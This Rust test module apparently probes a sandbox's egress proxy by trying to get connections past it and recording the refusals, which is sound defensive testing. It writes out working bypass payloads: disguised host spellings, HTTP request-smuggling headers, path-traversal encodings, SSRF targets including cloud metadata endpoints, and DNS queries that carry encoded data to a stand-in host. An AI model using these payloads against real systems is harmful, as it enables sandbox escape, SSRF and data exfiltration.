//! Attempts to get past the egress process of a proxied sandbox. Each member is one connection; a refusal is an answer with the
//! rule in it, or an end without the server's greeting.
//!
//! The first argument says whether there is a world outside (`world.rs`). Without one nothing answers, so the controls, which show
//! that what is allowed works, are only reported as such.

use std::io::{self, Read, Write};
use std::net::{Ipv4Addr, SocketAddr, TcpListener, TcpStream, UdpSocket};
use std::time::Duration;

use crate::Attempt;
use crate::out::Out;
use crate::sys::{start, wait};
use crate::world::{ALLOWED, DENIED, GREETING, METADATA, PRIVATE};

pub const ATTEMPTS: &[Attempt] = &[
    ("proxied-detours", detours),
    ("proxied-spellings", spellings),
    ("proxied-socks", socks_commands),
    ("proxied-hellos", hellos),
    ("proxied-smuggling", smuggling),
    ("proxied-paths", paths),
    ("proxied-special", special),
    ("proxied-datagrams", datagrams),
    ("proxied-lookups", lookups),
    ("proxied-inside", inside),
];

const PROXY: &str = "127.0.0.1:61080";
const PATIENCE: Duration = Duration::from_secs(8);
/// Present in every refusal.
const MARK: &str = "x-saggar-rule:";

pub(crate) fn connect(to: impl Into<SocketAddr>) -> io::Result<TcpStream> {
    let stream = TcpStream::connect_timeout(&to.into(), PATIENCE)?;
    stream.set_read_timeout(Some(PATIENCE))?;
    stream.set_write_timeout(Some(PATIENCE))?;
    Ok(stream)
}

fn to_proxy() -> io::Result<TcpStream> {
    connect(PROXY.parse::<SocketAddr>().map_err(|_| io::Error::from_raw_os_error(libc::EINVAL))?)
}

/// Sends bytes, and reads what comes until the end. `Ok` only if a server of the world has answered.
pub(crate) fn ask(mut stream: TcpStream, bytes: &[u8]) -> io::Result<()> {
    // The other side may refuse before it has read everything.
    drop(stream.write_all(bytes));
    let mut answer = Vec::new();
    // A reset ends it too.
    drop(stream.take(64 * 1024).read_to_end(&mut answer));
    let answer = String::from_utf8_lossy(&answer);
    match () {
        () if answer.contains(GREETING) => Ok(()),
        () if answer.to_ascii_lowercase().contains(MARK) => Err(io::Error::from_raw_os_error(libc::EACCES)),
        () => Err(io::Error::from_raw_os_error(libc::ECONNRESET)),
    }
}

pub(crate) fn get(host: &str) -> Vec<u8> {
    format!("GET / HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n").into_bytes()
}

/// What is allowed works, so a refusal of the rest says something.
pub(crate) fn control(out: &Out, arguments: &[String], result: impl FnOnce() -> io::Result<()>) {
    let has_world = arguments.first().is_some_and(|told| told == "world");
    let (is_kept, detail) = if has_world { (result().is_ok(), "") } else { (true, "nothing answers outside") };
    out.examined("what is allowed answers", is_kept, detail);
}

/// A connection to the proxy that has asked for a tunnel.
fn tunnel(to: &str) -> io::Result<TcpStream> {
    let mut stream = to_proxy()?;
    stream.write_all(format!("CONNECT {to} HTTP/1.1\r\nHost: {to}\r\n\r\n").as_bytes())?;
    let mut head = Vec::new();
    let mut byte = [0];
    while !head.ends_with(b"\r\n\r\n") && stream.read(&mut byte)? == 1 {
        head.push(byte[0]);
    }
    if head.starts_with(b"HTTP/1.1 200") { Ok(stream) } else { Err(io::Error::from_raw_os_error(libc::EACCES)) }
}

/// A SOCKS5 request with these bytes from the address type on.
fn socks(command: u8, target: &[u8], port: u16) -> io::Result<TcpStream> {
    let mut stream = to_proxy()?;
    let mut request = vec![5, 1, 0, 5, command, 0];
    request.extend_from_slice(target);
    request.extend(port.to_be_bytes());
    stream.write_all(&request)?;
    let mut answer = [0; 12];
    stream.read_exact(&mut answer)?;
    if answer[3] == 0 { Ok(stream) } else { Err(io::Error::from_raw_os_error(libc::EACCES)) }
}

fn socks_name(name: &[u8]) -> Vec<u8> {
    let mut target = vec![3, name.len() as u8];
    target.extend_from_slice(name);
    target
}

fn socks_v4(address: Ipv4Addr) -> Vec<u8> {
    [&[1], &address.octets()[..]].concat()
}

fn detours(out: &Out, arguments: &[String]) {
    let denied = DENIED.to_string();
    control(out, arguments, || ask(connect((ALLOWED, 80))?, &get(&ALLOWED.to_string())));
    out.tried("directly", connect((DENIED, 80)).and_then(|stream| ask(stream, &get(&denied))));
    out.tried("by CONNECT", tunnel(&format!("{denied}:80")).and_then(|stream| ask(stream, &get(&denied))));
    out.tried("by SOCKS5", socks(1, &socks_v4(DENIED), 80).and_then(|stream| ask(stream, &get(&denied))));
    let request = format!("GET http://{denied}/ HTTP/1.1\r\nHost: {denied}\r\nConnection: close\r\n\r\n");
    out.tried("by a proxy's request", to_proxy().and_then(|stream| ask(stream, request.as_bytes())));
    out.tried("another port", connect((ALLOWED, 7000)).and_then(|stream| ask(stream, b"hello\n")));
    out.tried("SSH", connect((DENIED, 22)).and_then(|stream| ask(stream, b"SSH-2.0-probe\r\n")));
    out.tried(
        "a tunnel in a tunnel",
        tunnel(&format!("{ALLOWED}:80")).and_then(|mut stream| {
            stream.write_all(format!("CONNECT {denied}:80 HTTP/1.1\r\nHost: {denied}:80\r\n\r\n").as_bytes())?;
            ask(stream, &get(&denied))
        }),
    );
    out.tried("through a relay of our own", relayed(&get(&denied)));
    out.tried("port 0", connect((DENIED, 0)).and_then(|stream| ask(stream, &get(&denied))));
}

/// A second program of the sandbox that passes on what it gets.
fn relayed(request: &[u8]) -> io::Result<()> {
    let listener = TcpListener::bind("127.0.0.1:0")?;
    let address = listener.local_addr()?;
    let relay = start(move || {
        let serve = || -> io::Result<()> {
            let (mut inner, _) = listener.accept()?;
            let mut some = [0; 4096];
            let count = inner.read(&mut some)?;
            let mut outer = connect((DENIED, 80))?;
            outer.write_all(&some[..count])?;
            let mut answer = Vec::new();
            outer.read_to_end(&mut answer)?;
            inner.write_all(&answer)
        };
        i32::from(serve().is_err())
    })?;
    let asked = connect(address).and_then(|stream| ask(stream, request));
    wait(relay);
    asked
}

/// Other spellings of the allowed address, and hosts that hide another one.
fn spellings(out: &Out, arguments: &[String]) {
    let allowed = ALLOWED.to_string();
    control(out, arguments, || ask(socks(1, &socks_name(allowed.as_bytes()), 80)?, &get(&allowed)));
    let [a, b, c, d] = ALLOWED.octets();
    let number = u32::from(ALLOWED);
    let long = "a".repeat(250);
    let names: Vec<(&str, Vec<u8>)> = vec![
        ("a NUL", format!("{allowed}\0.evil.test").into()),
        ("a NUL at the end", format!("{allowed}\0").into()),
        ("a port", format!("{allowed}:80").into()),
        ("a user", format!("{allowed}@evil.test").into()),
        ("a user before", format!("evil.test@{allowed}").into()),
        ("a fragment", format!("{allowed}#.evil.test").into()),
        ("a query", format!("{allowed}?.evil.test").into()),
        ("a path", format!("{allowed}/.evil.test").into()),
        ("a backslash", format!("{allowed}\\.evil.test").into()),
        ("a space", format!("{allowed} ").into()),
        ("a space before", format!(" {allowed}").into()),
        ("a percent escape", format!("{allowed}%00").into()),
        ("brackets", format!("[{allowed}]").into()),
        ("a scope", b"fe80::1%eth0".to_vec()),
        ("octal", format!("0{a:o}.{b}.{c}.0{d:o}").into()),
        ("hexadecimal", format!("0x{a:x}.{b}.{c}.0x{d:x}").into()),
        ("one number", number.to_string().into()),
        ("three parts", format!("{a}.{b}.{}", u32::from(c) * 256 + u32::from(d)).into()),
        ("a line break", format!("{allowed}\r\n").into()),
        ("full-width digits", "２０３.0.113.10".as_bytes().to_vec()),
        ("not UTF-8", vec![b'a', 0xff, b'.', b't']),
        ("too long", format!("{long}.test").into()),
        ("nothing", Vec::new()),
    ];
    for (member, name) in &names {
        out.tried(member, socks(1, &socks_name(name), 80).and_then(|stream| ask(stream, &get(&allowed))));
    }
    for (member, name) in names.iter().filter(|(_, name)| name.iter().all(|byte| matches!(byte, b'!'..=b'~'))) {
        let name = String::from_utf8_lossy(name);
        let asked = tunnel(&format!("{name}:80")).and_then(|stream| ask(stream, &get(&allowed)));
        out.tried(&format!("CONNECT with {member}"), asked);
        let asked = connect((ALLOWED, 80)).and_then(|stream| ask(stream, &get(&format!("{name}"))));
        // The Host header may have the port of the connection.
        if *member != "a port" {
            out.tried(&format!("Host with {member}"), asked);
        }
    }
}

fn socks_commands(out: &Out, arguments: &[String]) {
    let allowed = ALLOWED.to_string();
    control(out, arguments, || ask(socks(1, &socks_v4(ALLOWED), 80)?, &get(&allowed)));
    for (member, command) in [("BIND", 2), ("UDP ASSOCIATE", 3), ("an unknown command", 9)] {
        out.tried(member, socks(command, &socks_v4(ALLOWED), 80).map(drop));
    }
    out.tried("an unknown kind of address", socks(1, &[9, 1, 2, 3, 4], 80).map(drop));
    out.tried("port 0", socks(1, &socks_v4(ALLOWED), 0).and_then(|stream| ask(stream, &get(&allowed))));
    let six = [&[4], &ALLOWED.to_ipv6_mapped().octets()[..]].concat();
    out.tried("IPv4 in IPv6", socks(1, &six, 80).and_then(|stream| ask(stream, &get(&allowed))));
    for (member, request) in [
        ("SOCKS4", [&[4, 1, 0, 80], &ALLOWED.octets()[..], &[0]].concat()),
        ("SOCKS4a", [&[4, 1, 0, 80, 0, 0, 0, 1, 0][..], allowed.as_bytes(), &[0]].concat()),
    ] {
        let asked = to_proxy().and_then(|mut stream| {
            stream.write_all(&request)?;
            ask(stream, &get(&allowed))
        });
        out.tried(member, asked);
    }
}

/// A ClientHello with these extensions, in records of this length.
fn hello(extensions: &[u8], record: usize) -> Vec<u8> {
    let mut body = vec![3, 3];
    body.extend([7; 32]);
    body.extend([0, 0, 2, 0x13, 1, 1, 0]);
    body.extend((extensions.len() as u16).to_be_bytes());
    body.extend_from_slice(extensions);
    let mut message = vec![1, 0];
    message.extend((body.len() as u16).to_be_bytes());
    message.extend(body);
    let mut bytes = Vec::new();
    for part in message.chunks(record) {
        bytes.extend([22, 3, 1]);
        bytes.extend((part.len() as u16).to_be_bytes());
        bytes.extend_from_slice(part);
    }
    bytes
}

fn extension(kind: u16, data: &[u8]) -> Vec<u8> {
    [&kind.to_be_bytes()[..], &(data.len() as u16).to_be_bytes(), data].concat()
}

fn server_name(name: &str) -> Vec<u8> {
    let name = name.as_bytes();
    let entry = [&[0][..], &(name.len() as u16).to_be_bytes(), name].concat();
    extension(0, &[&(entry.len() as u16).to_be_bytes()[..], &entry].concat())
}

fn hellos(out: &Out, arguments: &[String]) {
    let tls = |bytes: &[u8]| connect((ALLOWED, 443)).and_then(|stream| ask(stream, bytes));
    control(out, arguments, || tls(&hello(&[], 1 << 14)));
    let other = hello(&server_name("evil.test"), 1 << 14);
    out.tried("another name", tls(&other));
    out.tried("another name, cut into records", tls(&hello(&server_name("evil.test"), 7)));
    out.tried("a denied address as the name", tls(&hello(&server_name(&DENIED.to_string()), 1 << 14)));
    out.tried("two names", tls(&hello(&[server_name("evil.test"), server_name("evil.test")].concat(), 1 << 14)));
    out.tried("a hidden name", tls(&hello(&extension(0xfe0d, &[0, 0, 1, 0, 1, 0, 0, 0, 0, 1, 9]), 1 << 14)));
    out.tried("no TLS at all", tls(b"\0\x01\x02\x03anything"));
    out.tried("HTTP instead of TLS", tls(&get(&ALLOWED.to_string())));
    out.tried("SSH instead of TLS", tls(b"SSH-2.0-probe\r\n"));
    out.tried("by CONNECT with another name", tunnel(&format!("{ALLOWED}:443")).and_then(|stream| ask(stream, &other)));
    out.tried("by SOCKS5 with another name", socks(1, &socks_v4(ALLOWED), 443).and_then(|stream| ask(stream, &other)));
    out.tried("a denied address", connect((DENIED, 443)).and_then(|stream| ask(stream, &hello(&[], 1 << 14))));
}

fn smuggling(out: &Out, arguments: &[String]) {
    let host = ALLOWED.to_string();
    let send = |request: &str| connect((ALLOWED, 80)).and_then(|stream| ask(stream, request.as_bytes()));
    control(out, arguments, || ask(connect((ALLOWED, 80))?, &get(&host)));
    let body = format!("5\r\nhello\r\n0\r\n\r\nGET /hidden HTTP/1.1\r\nHost: {host}\r\n\r\n");
    for (member, head) in [
        ("both lengths", "Content-Length: 5\r\nTransfer-Encoding: chunked"),
        ("both lengths, turned", "Transfer-Encoding: chunked\r\nContent-Length: 5"),
        ("two lengths", "Content-Length: 5\r\nContent-Length: 6"),
        ("a list of lengths", "Content-Length: 5, 6"),
        ("a signed length", "Content-Length: +5"),
        ("two encodings", "Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked"),
        ("another encoding", "Transfer-Encoding: gzip, chunked"),
        ("a space before the colon", "Transfer-Encoding : chunked"),
        ("a folded header", "X-Folded: a\r\n b"),
        ("a NUL", "X-Nul: a\0b"),
        ("a bare CR", "X-Bare: a\rb"),
        ("no colon", "No-Colon"),
        ("two hosts", "Host: evil.test"),
    ] {
        out.tried(member, send(&format!("POST / HTTP/1.1\r\nHost: {host}\r\n{head}\r\n\r\n{body}")));
    }
    for (member, line, header) in [
        ("no host", "/", String::new()),
        ("another host", "/", "Host: evil.test\r\n".to_owned()),
        ("another host in the line", "http://evil.test/", format!("Host: {host}\r\n")),
        ("another host in the header", &format!("http://{host}/"), "Host: evil.test\r\n".to_owned()),
        ("a user in the line", &format!("http://{host}@evil.test/"), format!("Host: {host}\r\n")),
        ("a fragment in the line", &format!("http://evil.test#@{host}/"), format!("Host: {host}\r\n")),
        ("a backslash in the line", &format!("http://evil.test\\@{host}/"), format!("Host: {host}\r\n")),
        ("a port with a zero", "/", format!("Host: {host}:080\r\n")),
    ] {
        out.tried(member, send(&format!("GET {line} HTTP/1.1\r\n{header}Connection: close\r\n\r\n")));
    }
    let preface = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
    out.tried("HTTP/2 without TLS", send(preface));
}

/// Rules allow GET below /ok/ alone.
fn paths(out: &Out, arguments: &[String]) {
    let host = ALLOWED.to_string();
    let send = |method: &str, path: &str, header: &str| {
        let request = format!("{method} {path} HTTP/1.1\r\nHost: {host}\r\n{header}Connection: close\r\n\r\n");
        connect((ALLOWED, 80)).and_then(|stream| ask(stream, request.as_bytes()))
    };
    control(out, arguments, || send("GET", "/ok/x", ""));
    for path in [
        "/",
        "/ok",
        "/OK/x",
        "/no",
        "/ok/../no",
        "/ok/%2e%2e/no",
        "/ok/.%2E/no",
        "/ok//x",
        "/ok/..;/no",
        "/ok;x/y",
        "/ok/%2fno",
        "/ok/..%5cno",
        "/ok/..\\no",
        "/ok/%252e%252e/no",
        "/ok/%c0%ae%c0%ae/no",
        "/ok/%00",
        "/ok/%0d%0a",
        "/ok/%ef%bc%8e%ef%bc%8e/no",
        "/ok/%ef%bd%81",
        "*",
    ] {
        out.tried(path, send("GET", path, ""));
    }
    for method in ["POST", "PUT", "get", "TRACE", "TRACK", "CONNECT", "WEBSOCKET", "OPTIONS"] {
        out.tried(method, send(method, "/ok/x", ""));
    }
    let upgrade = "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n";
    out.tried("a WebSocket where only GET is allowed", send("GET", "/ok/x", upgrade));
    out.tried("an upgrade to HTTP/2", send("POST", "/ok/x", "Connection: Upgrade\r\nUpgrade: h2c\r\n"));
}

/// Special addresses in every notation, although `*` on every port is allowed.
fn special(out: &Out, arguments: &[String]) {
    control(out, arguments, || ask(connect((ALLOWED, 80))?, &get(&ALLOWED.to_string())));
    for address in [
        "169.254.169.254",
        "169.254.170.2",
        "100.100.100.200",
        "168.63.129.16",
        "192.0.0.192",
        "10.9.9.9",
        "172.17.0.1",
        "192.168.122.1",
        "100.64.0.1",
        "198.18.0.1",
        "198.19.255.254",
        "0.0.0.1",
        "224.0.0.251",
        "255.255.255.255",
        "[fd00:ec2::254]",
        "[fe80::1]",
        "[fd00::1]",
        "[64:ff9b::a09:909]",
        "[2002:a09:909::]",
        "[ff02::1]",
    ] {
        let asked =
            format!("{address}:80").parse::<SocketAddr>().map_err(|_| io::Error::from_raw_os_error(libc::EINVAL));
        out.tried(address, asked.and_then(connect).and_then(|stream| ask(stream, &get(address))));
    }
    let (private, metadata) = (u32::from(PRIVATE), u32::from(METADATA));
    for host in [
        "127.0.0.1".to_owned(),
        "localhost".to_owned(),
        "0".to_owned(),
        "0.0.0.0".to_owned(),
        "127.1".to_owned(),
        "0x7f.1".to_owned(),
        "0177.0.0.1".to_owned(),
        "2130706433".to_owned(),
        "[::1]".to_owned(),
        "[::]".to_owned(),
        "[::ffff:127.0.0.1]".to_owned(),
        "[::127.0.0.1]".to_owned(),
        "[64:ff9b::7f00:1]".to_owned(),
        "[2002:7f00:1::]".to_owned(),
        "[fe80::1%25lo]".to_owned(),
        format!("{PRIVATE}"),
        format!("{METADATA}"),
        format!("[::ffff:{METADATA}]"),
        format!("[::ffff:{PRIVATE}]"),
        private.to_string(),
        metadata.to_string(),
        format!("{PRIVATE}."),
        "metadata.google.internal".to_owned(),
    ] {
        out.tried(
            &format!("CONNECT {host}"),
            tunnel(&format!("{host}:80")).and_then(|stream| ask(stream, &get(&host))),
        );
    }
}

fn datagrams(out: &Out, arguments: &[String]) {
    control(out, arguments, || ask(connect((ALLOWED, 80))?, &get(&ALLOWED.to_string())));
    for (member, to) in [
        ("QUIC", "203.0.113.10:443"),
        ("QUIC to a denied host", "203.0.113.11:443"),
        ("mDNS", "203.0.113.11:5353"),
        ("DNS over DTLS", "203.0.113.11:853"),
        ("to a metadata service", "169.254.169.254:123"),
        ("multicast", "224.0.0.251:5353"),
        ("broadcast", "255.255.255.255:9"),
        ("over IPv6", "[2001:db8::1]:443"),
        ("multicast over IPv6", "[ff02::fb]:5353"),
    ] {
        let sent = UdpSocket::bind(if to.starts_with('[') { "[::]:0" } else { "0.0.0.0:0" }).and_then(|socket| {
            socket.set_broadcast(true)?;
            socket.send_to(b"probe", to).map(drop)
        });
        out.tried(member, sent);
    }
    for (member, to) in [("over IPv6", "[2001:db8::1]:80"), ("DNS over TLS", "203.0.113.11:853")] {
        let asked = to.parse::<SocketAddr>().map_err(|_| io::Error::from_raw_os_error(libc::EINVAL));
        out.tried(
            &format!("TCP {member}"),
            asked.and_then(connect).and_then(|stream| ask(stream, &get("[2001:db8::1]"))),
        );
    }
}

/// Questions that would carry data out. Each is answered inside, by an address of the pool or by no record.
fn lookups(out: &Out, _: &[String]) {
    let data = "nbswy3dpeb3w64tmmqwcayjanrxw4zzanvsxg43bm5sse5dimvzgk";
    for (member, kind) in
        [("A", 1u16), ("AAAA", 28), ("TXT", 16), ("NULL", 10), ("MX", 15), ("ANY", 255), ("HTTPS", 65)]
    {
        let mut question = vec![0, 7, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
        for label in [data, "evil", "test"] {
            question.push(label.len() as u8);
            question.extend_from_slice(label.as_bytes());
        }
        question.push(0);
        question.extend(kind.to_be_bytes());
        question.extend([0, 1]);
        for (way, server) in [("", "203.0.113.11:53"), (" of a public server", "1.1.1.1:53")] {
            let answer = UdpSocket::bind("0.0.0.0:0").and_then(|socket| {
                socket.set_read_timeout(Some(PATIENCE))?;
                socket.send_to(&question, server)?;
                let mut answer = [0; 1232];
                let count = socket.recv(&mut answer)?;
                Ok(answer[..count].to_vec())
            });
            out.examined(&format!("{member}{way}"), answer.is_ok_and(|answer| is_of_the_pool(&answer, kind)), "");
        }
    }
    let asked = connect((DENIED, 53)).and_then(|stream| ask(stream, &[0, 0]));
    out.tried("a greeting over TCP", asked);
}

/// No record, or an address of the pool.
fn is_of_the_pool(answer: &[u8], kind: u16) -> bool {
    let records = answer.get(6..8).map_or(0, |count| u16::from_be_bytes([count[0], count[1]]));
    match kind {
        1 => {
            records == 1 && answer.get(answer.len() - 4..).is_some_and(|end| end[0] == 198 && matches!(end[1], 18 | 19))
        }
        28 => records == 1 && answer.windows(4).any(|part| part == [0xfd, 0xfe, 0x5a, 0x66]),
        _ => records == 0,
    }
}

/// A name that rules allow, and that leads to the host itself.
fn inside(out: &Out, arguments: &[String]) {
    control(out, arguments, || ask(connect((ALLOWED, 80))?, &get(&ALLOWED.to_string())));
    let request = get("localhost");
    out.tried("by CONNECT", tunnel("localhost:80").and_then(|stream| ask(stream, &request)));
    out.tried("by SOCKS5", socks(1, &socks_name(b"localhost"), 80).and_then(|stream| ask(stream, &request)));
    let asked = b"GET http://localhost/ HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n";
    out.tried("by a proxy's request", to_proxy().and_then(|stream| ask(stream, asked)));
}
